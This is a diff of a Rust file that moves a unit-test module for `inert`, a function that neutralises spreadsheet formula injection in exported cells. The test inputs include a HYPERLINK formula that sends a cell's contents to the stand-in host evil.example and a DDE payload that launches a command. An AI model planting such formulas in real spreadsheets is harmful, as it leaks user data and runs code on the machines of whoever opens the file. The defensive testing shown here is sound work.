@@ -67,32 +67,6 @@ pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::inert;
-
-    #[test]
-    fn formulas_are_neutralised_and_numbers_left_alone() {
-        for formula in [
-            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-            "=cmd|' /C calc'!A0",
-            "+1+1",
-            "-1+1",
-            "@SUM(A1)",
-            "\tx",
-            "\rx",
-            "-",
-            "=",
-            "-.5",
-        ] {
-            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
-        }
-        for plain in ["", "12.50", "-3", "-0.25", "ML-3", "P-000001", "a=b", " =x", "USD"] {
-            assert_eq!(inert(plain), plain, "{plain:?}");
-        }
-    }
-}
-
 /// One line saying what an event does, for logs and histories.
 pub fn describe(e: &Event) -> String {
     match &e.body {
@@ -134,5 +108,31 @@ pub fn describe(e: &Event) -> String {
             Some(m) => format!("withdraws {m} of {}: {}", b.pledge, b.reason),
             None => format!("withdraws what remains of {}: {}", b.pledge, b.reason),
         },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert;
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_left_alone() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+            "+1+1",
+            "-1+1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "-",
+            "=",
+            "-.5",
+        ] {
+            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for plain in ["", "12.50", "-3", "-0.25", "ML-3", "P-000001", "a=b", " =x", "USD"] {
+            assert_eq!(inert(plain), plain, "{plain:?}");
+        }
     }
 }
